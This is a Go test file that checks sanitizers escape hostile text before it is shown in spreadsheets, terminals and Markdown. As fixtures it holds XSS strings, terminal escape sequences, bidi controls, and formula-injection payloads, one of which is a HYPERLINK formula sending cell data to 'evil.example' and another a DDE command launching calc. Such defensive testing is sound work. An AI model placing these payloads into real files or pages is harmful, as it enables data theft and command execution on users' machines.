package strict

import (
	"strings"
	"testing"
	"unicode"
)

// hostile has what must not have an effect where text of others is shown.
var hostile = []string{
	"<script>alert(1)</script>", "</code></td><img src=x onerror=y>", "a | b", "`` `x` ``", "\\`x",
	"![x](https://example.org/x.png)", "[x](javascript:y)",
	"https://example.org www.example.org x@example.org",
	"@line-rate/everyone #1 GH-1 0123456789abcdef0123456789abcdef01234567", "one\ntwo\r\n\n# head\n- item",
	"\x1b[2J\x1b]0;title\x07", "\u009b31m", "left\u202eright\u2066", "\x00", "\xff\xfe", "&lt;b&gt; &amp;", "<!-- x",
	"*b* _i_ ~~s~~ **b**", "| - | :-: |", "$x$ :smile:", "zero\u200bwidth",
}

func TestNoCellIsAFormula(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "wire 96 %": "wire 96 %", "a=b": "a=b", "-5": "-5", "+5.5e3": "+5.5e3", "=1": "'=1",
		`=HYPERLINK("http://evil.example"&A1,"x")`: `'=HYPERLINK("http://evil.example"&A1,"x")`,
		"@SUM(1)*cmd|' /C calc'!A0":                "'@SUM(1)*cmd|' /C calc'!A0",
		"+1+cmd":                                   "'+1+cmd", "-1+cmd": "'-1+cmd", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-": "'-",
	} {
		if got := Cells([]string{text})[0]; got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestVisibleIsOneLineWithNothingHidden(t *testing.T) {
	for _, text := range hostile {
		got := Visible(text, 200)
		for _, r := range got {
			if !unicode.IsPrint(r) {
				t.Errorf("%q: %q has %U", text, got, r)
			}
		}
	}
	for text, want := range map[string]string{
		"plain: 5 µs": "plain: 5 µs", "a\nb\tc": `a\nb\tc`, "\x1b[2J": `\x1b[2J`, "\u009b": `\u009b`, `\n`: `\\n`,
		"\xff": `\xff`, "�": "�",
		"\u202eabc": `\u202eabc`, "\U000e0041": `\U000e0041`,
	} {
		if got := Visible(text, 200); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
	if got := Visible("ninety", 4); got != "nine…" {
		t.Errorf("%q", got)
	}
}

// One backquote begins the code and one ends it, whatever the text is.
func TestMarkdownHasNoMarkup(t *testing.T) {
	for _, text := range append(hostile, "", "`", "``", "a`") {
		got := Markdown(text, 200)
		inside := strings.TrimSuffix(strings.TrimPrefix(got, "`"), "`")
		if len(inside) != len(got)-2 || inside == "" || strings.ContainsAny(inside, "`\n\r") {
			t.Errorf("%q: %s", text, got)
		}
		if want := Visible(text, 200); strings.ReplaceAll(inside, `\u0060`, "`") != want && text != "" {
			t.Errorf("%q reads as %q, want %q", text, inside, want)
		}
	}
}

func TestAMessageMovesNoCursor(t *testing.T) {
	got := Lines("a.toml: settings.\x1b[2J\u202e: \"\\u001b\" \tx\nb.toml: é\x7f")
	if want := "a.toml: settings.\\x1b[2J\\u202e: \"\\u001b\" \\tx\nb.toml: é\\x7f"; got != want {
		t.Errorf("%q, want %q", got, want)
	}
}
